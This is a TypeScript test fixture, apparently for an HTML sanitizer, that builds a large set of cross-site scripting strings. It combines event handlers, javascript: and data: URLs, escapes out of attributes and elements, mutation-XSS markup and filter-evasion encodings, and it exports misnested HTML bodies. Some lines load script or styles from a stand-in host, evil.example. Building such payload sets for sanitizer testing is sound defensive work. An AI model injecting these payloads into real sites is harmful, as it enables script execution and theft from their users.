/**
 * More than two thousand strings that try to run a script when rendered in a page, combined from parts: elements with handlers,
 * script addresses, ways out of attributes and elements, encodings, and markup that two parsers read differently. Each calls
 * `alert`. The same in every run.
 */

const EVENTS = [
  ...[
    'error',
    'load',
    'click',
    'dblclick',
    'mouseover',
    'mouseenter',
    'mousemove',
    'mousedown',
    'contextmenu',
    'wheel',
  ],
  ...['focus', 'focusin', 'blur', 'toggle', 'beforetoggle', 'input', 'change', 'submit', 'reset', 'invalid', 'select'],
  ...['keydown', 'keyup', 'copy', 'paste', 'drag', 'drop', 'play', 'canplay', 'loadstart', 'ended', 'begin', 'end'],
  ...['animationstart', 'transitionend', 'pointerenter', 'pointerrawupdate', 'touchstart', 'scroll', 'scrollend'],
  ...[
    'resize',
    'hashchange',
    'message',
    'pageshow',
    'popstate',
    'unhandledrejection',
    'auxclick',
    'securitypolicyviolation',
  ],
]
const ELEMENTS = [
  ...[
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'audio src=x',
    'a href=#',
    'p',
    'table',
  ],
  ...[
    'figure class="video"',
    'td',
    'marquee',
    'iframe',
    'object data=x',
    'button popovertarget=x',
    'select autofocus',
    'h2',
  ],
  ...[
    'textarea autofocus',
    'form',
    'math',
    'dialog open',
    'x-y tabindex=1',
    'blockquote',
    'source',
    'link rel=stylesheet',
    'slot',
  ],
]
/** Separators that browsers accept between two attributes, and around a value. */
const GAPS = [' ', '/', '\t', '\n', '\f', ' / ', '\r\n', '\u00a0 ']
const QUOTES = ['', '"', "'"]

/** The `index`th entry of a list, starting over at its end. */
const turn = <T>(list: readonly T[], index: number): T => list[index % list.length] as T

const withHandlers = ELEMENTS.flatMap((element, row) =>
  EVENTS.map((event, column) => {
    const name = turn([`on${event}`, `ON${event.toUpperCase()}`, `oN${event}`], column + 2 * row)
    const quote = turn(QUOTES, Math.floor(column / 3) + row)
    return `<${element}${turn(GAPS, column + row)}${name}=${quote}alert(1)${quote}>x`
  }),
)

const PROGRAMS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\r\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&Tab;:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript:%61lert(1)',
  'javascript://site.test/%0aalert(1)',
  'javascript:/*https://site.test/*/alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#0000106avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  'vbscript:alert(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'feed:javascript:alert(1)',
  '//evil.example/x.js',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
  '/\t/evil.example/x',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'view-source:javascript:alert(1)',
]
const PLACES: ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<a href='${to}'>x</a>`,
  (to) => `<a href=${to}>x</a>`,
  (to) => `<a href="/faq" href="${to}">x</a>`,
  (to) => `<img src="${to}">`,
  (to) => `<img src="/x.webp" srcset="${to} 1x">`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
  (to) => `<button formaction="${to}">x</button>`,
  (to) => `<figure class="video"><a href="${to}">x</a></figure>`,
  (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to) => `<math><maction actiontype="statusline#${to}" href="${to}">x</maction></math>`,
  (to) => `<video poster="${to}"><source src="${to}"></video>`,
  (to) => `<object data="${to}"></object>`,
]
const withPrograms = PLACES.flatMap((place) => PROGRAMS.map(place))

/** Ways out of the surrounding markup, and markup that two parsers read differently. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script src=//evil.example/x.js></script>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '` onerror=`alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is meant literally
  '${alert(1)}',
  '#{alert(1)}',
  '\u2028<script>alert(1)</script>\u2029',
  ']]><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:/a/-alert(1)///">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img/src/onerror=alert(1)>',
  '<img src=x onerror\x0b=alert(1)>',
  '<img src=x on\x00error=alert(1)>',
  '<a href="/faq" onclick=alert(1) style=position:fixed;inset:0>x</a>',
  '<a href="https://x.example/" target="_blank" ping="https://evil.example">x</a>',
  '<td background="javascript:alert(1)">x',
  '<table background="javascript:alert(1)"><tr><td>x',
  '<isindex action="javascript:alert(1)" type=image>',
  '<keygen autofocus onfocus=alert(1)>',
  '<xss style="animation-name:x" onanimationend=alert(1)>x</xss>',
  '<x contenteditable onblur=alert(1)>x</x>',
  '<div id="in-before" class="x" data-tab-panel hidden popover onbeforetoggle=alert(1)>x</div>',
]

/** What closes the element, the attribute or the text that a string may have been put into. */
const ENDS = [
  ...['"', "'", '`', '">', "'>", '`>', '"/>', '>', '-->', '--!>', ']]>', '?>', '%>', '*/', '\\"', '\n', ');', '}}'],
  ...[
    'title',
    'textarea',
    'script',
    'style',
    'noscript',
    'template',
    'xmp',
    'iframe',
    'select',
    'svg',
    'math',
    'table',
    'p',
  ].map((name) => `</${name}>`),
]
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  ' onfocus=alert(1) autofocus ',
  ' onmouseover="alert(1)" x="',
  '<iframe srcdoc="<img src=x onerror=alert(1)>">',
  '<a href=javascript:alert(1)>x</a>',
  '<style>@import "//evil.example/x.css";</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  ';alert(1)//',
]
const waysOut = ENDS.flatMap((end) => PAYLOADS.map((payload) => `${end}${payload}`))

const codePoints = (text: string, write: (code: number) => string) =>
  [...text].map((sign) => write(sign.codePointAt(0) ?? 0)).join('')
/** The same payload, disguised as it would be to pass a filter. */
const SPELLINGS: ((text: string) => string)[] = [
  (text) => codePoints(text, (code) => `&#${code};`),
  (text) => codePoints(text, (code) => `&#x${code.toString(16)}`),
  (text) => codePoints(text, (code) => `%${code.toString(16).padStart(2, '0')}`),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => codePoints(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('alert', 'al\u00adert'),
  (text) => text.replace(/<(\w)/g, '<<$1'),
  (text) => text.replace(/<(\w+)/g, '<$1<$1'),
  (text) => text.slice(0, -1),
]
const spelled = SPELLINGS.flatMap((spell) => PAYLOADS.map(spell))

export const HOSTILE_STRINGS: readonly string[] = [
  ...new Set([...SCRIPTS, ...withHandlers, ...withPrograms, ...waysOut, ...spelled]),
]

const BODY_TAGS = [
  ...['p', 'a', 'table', 'tr', 'td', 'p', 'a', 'table', 'tr', 'td', 'br', 'hr', 'h1', 'h2', 'h3', 'ul', 'ol', 'li'],
  ...['blockquote', 'pre', 'code', 'strong', 'em', 'b', 'u', 's', 'img', 'figure', 'thead', 'tbody', 'th', 'caption'],
  ...['div', 'form', 'style', 'base', 'meta', 'template', 'svg', 'math', 'mi', 'foreignObject', 'title', 'option'],
  ...['select', 'button', 'noscript', 'textarea', 'font', 'nobr', 'dd', 'plaintext', 'frameset', 'body', 'html'],
]

/** Pieces of an article's body; joined at random they open and close in any order. */
export const BODY_PIECES = [
  ...BODY_TAGS.flatMap((tag) => [`<${tag}>`, `</${tag}>`]),
  ...['<!--', '-->', '<![CDATA[', ']]>', '\n', 'words ', '&lt;b', '&nbsp;', '<', '>', '"'],
  ...['<a href="/faq">', '<figure class="video"><a href="https://vimeo.com/76979871">', '<td colspan="2">'],
  ...['<meta http-equiv="refresh" content="0;url=//e.example">', '<base href="//e.example/">'],
  ...['<form action="//e.example"><input name="a">', '<a title="--></p>">'],
]

/** Bodies that a sanitizer and a browser may nest differently, each for a reason of its own. */
export const MISNESTED_BODIES = [
  '<meta http-equiv="refresh" content="0;url=//e.example"><p>after a refresh</p>',
  '<base href="//e.example/"><p><a href="relative">after a base</a></p>',
  '<form action="//e.example"><p>in a form<form><p>in another</form></form><input>',
  '<style>p { display: none }</style><p>after a style</p><style>never closed',
  '<p>unclosed <strong>bold <em>and <a href="/faq">linked',
  '<ul><li>one<li>two<ul><li>three</ul>',
  '<p>outer <p>inner</p> rest</p>',
  '<p>a list <ul><li>in a paragraph</li></ul> rest</p>',
  '<p><h2>a heading in a paragraph</h2></p>',
  '<h2>a heading <h3>in a heading</h3></h2>',
  '<h2><p>a paragraph in a heading</p></h2>',
  'a stray end</p></div></main></body></html>',
  '</br></p><p>other ends</h2></td></li></table>',
  '<table><tr><td>no body</td></tr></table>',
  '<table><td>no row<td>another</table>',
  '<table>words<tr>between<td>cells</td>of</tr>a table</table>',
  '<table><table><tr><td>a table in a table',
  '<table><tr><table><tr><td>a table in a row</td></tr></table></tr></table>',
  '<table><p>before</p><tr><td><p>in a cell<table><tr><td>a table in a cell</table></p></table>',
  '<table><thead><tr><th>head</thead><caption>late</caption><tbody><tr><td>body</table>',
  '<tr><td>cells without a table</td></tr>',
  '<a href="/faq">a link <a href="/blog">in a link</a> rest</a>',
  '<a href="/faq"><table><tr><td><a href="/blog">a link in a table in a link</a></td></tr></table></a>',
  '<table><a href="/faq"><tr><td>a link before a row</a></td></tr></table>',
  '<strong><p>one</strong> two</p> three',
  '<b><i><u><s><b><i><u><s><b><i><u><s><p>deep</b>ly</i> wrong</p>',
  '<p><strong><blockquote><p>bold</strong> around a quote</blockquote></p>',
  '<svg><p>out of a picture</p><style><a title="</style><p>">x</a></svg><p>after</p>',
  '<svg><foreignObject><table><tr><td>foreign</td></svg><p>after</p>',
  '<math><mi><table><mglyph><style><!--</style><p>in a formula</math><p>after</p>',
  '<math><annotation-xml encoding="text/html"><p>an annotation</p></annotation-xml></math>',
  '<template><tr><td>in a template</td></tr></template><p>after</p>',
  '<p>a comment <!-- --!> <p>ended</p> --> and <!-- never ended',
  '<!doctype html><html><head><title>t</title></head><body><p>a whole page</p></body></html>',
  '<figure class="video"><a href="https://vimeo.com/76979871">A film <table><tr><td>and a table</a></figure>',
  '<pre>\n\nlines <p>and a paragraph</pre>',
  '<ol start="3"><p>no item</p><li><h2>a heading in an item<li>next</ol>',
  '<select><option><p>in a choice</select><textarea><p>in a field</textarea><noscript><p>without</noscript>',
  '<p>a picture <img alt="</p><table>" src="/media/hero-poster-320.avif"> with markup in its words</p>',
  '<plaintext><p>the rest as text',
]
